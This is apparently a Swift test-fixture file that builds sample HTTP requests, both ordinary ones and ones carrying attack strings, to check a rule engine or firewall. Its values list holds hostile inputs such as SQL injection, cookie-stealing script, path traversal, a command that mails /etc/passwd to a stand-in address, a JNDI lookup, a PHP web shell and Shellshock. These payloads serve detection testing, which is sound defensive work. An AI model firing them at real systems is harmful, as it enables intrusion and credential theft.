// Sample requests for the check of a generation: ordinary ones, and some that many rules look at.

internal import Bytes

enum CheckTraffic {
    struct Request: Sendable {
        var name: String
        var method: ByteText
        var target: ByteText
        var fields: [(name: ByteText, value: ByteText)]
        var body: ByteText?

        /// Kept: the transaction looks at it as long as it runs.
        var line: ByteText

        init(_ name: String, _ method: String, _ target: String, type: String? = nil, body: String? = nil) {
            self.name = name
            line = ByteText("\(method) \(target) HTTP/1.1")
            self.method = ByteText(method)
            self.target = ByteText(target)
            var fields = [
                ("Host", "www.example.com"),
                ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"),
                ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
                ("Cookie", "session=0a1b2c3d; theme=dark"),
            ]
            if let type { fields.append(("Content-Type", type)) }
            if let body { fields.append(("Content-Length", "\(body.utf8.count)")) }
            self.fields = fields.map { (ByteText($0), ByteText($1)) }
            self.body = body.map { ByteText($0) }
        }
    }

    private static let form = "application/x-www-form-urlencoded"

    /// Texts that detectors of all kinds react to, and texts that they should not.
    private static let values = [
        "a quiet afternoon", "O'Brien & Sons, 12-14 Mill Lane", "SELECT a size", "2024-05-01T10:00:00Z", "42",
        "",
        "1' or '1'='1' -- ", "1 union select password from users", "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd | mail a@b.example",
        "${jndi:ldap://x.example/a}", "<?php system($_GET['c']); ?>", "http://127.0.0.1/admin", "{{7*7}}",
        "%00%0d%0aSet-Cookie: a=b", "php://input", "() { :;}; /bin/ls", "a\\u0027 or 1=1", "\u{202E}gnp.exe",
    ]

    static let requests: [Request] = {
        var requests = [
            Request("page", "GET", "/"), Request("search", "GET", "/search?q=winter+coat&page=2&sort=price"),
            Request("options", "OPTIONS", "/api/items"), Request("odd path", "GET", "/a/./b/../c%2f..%5cd?x"),
            Request("empty form", "POST", "/login", type: form, body: ""),
        ]
        for (number, value) in values.enumerated() {
            let coded = value.utf8.map { byte in
                let isPlain =
                    byte < 0x80
                    && (Character(UnicodeScalar(byte)).isLetter || Character(UnicodeScalar(byte)).isNumber)
                return isPlain
                    ? String(UnicodeScalar(byte)) : "%" + (byte < 16 ? "0" : "") + String(byte, radix: 16)
            }.joined()
            let text = value.unicodeScalars.map { scalar in
                let digits = String(scalar.value, radix: 16)
                return "\\u" + String(repeating: "0", count: 4 - digits.count) + digits
            }.joined()
            // Each in another place: the check is part of every reload.
            switch number % 3 {
            case 0: requests.append(Request("argument \(number)", "GET", "/item?id=\(coded)&\(coded)=ref"))
            case 1:
                requests.append(
                    Request("form \(number)", "POST", "/form", type: form, body: "a=1&text=\(coded)"))
            default:
                requests.append(
                    Request(
                        "json \(number)", "POST", "/api", type: "application/json",
                        body: "{\"k\":[1,\"\(text)\"],\"\(number)\":null}"))
            }
        }
        return requests
    }()

    static let page = ByteText(
        "<html><body><h1>Index of /</h1><p>ORA-00933: SQL command not properly ended</p></body></html>")
}
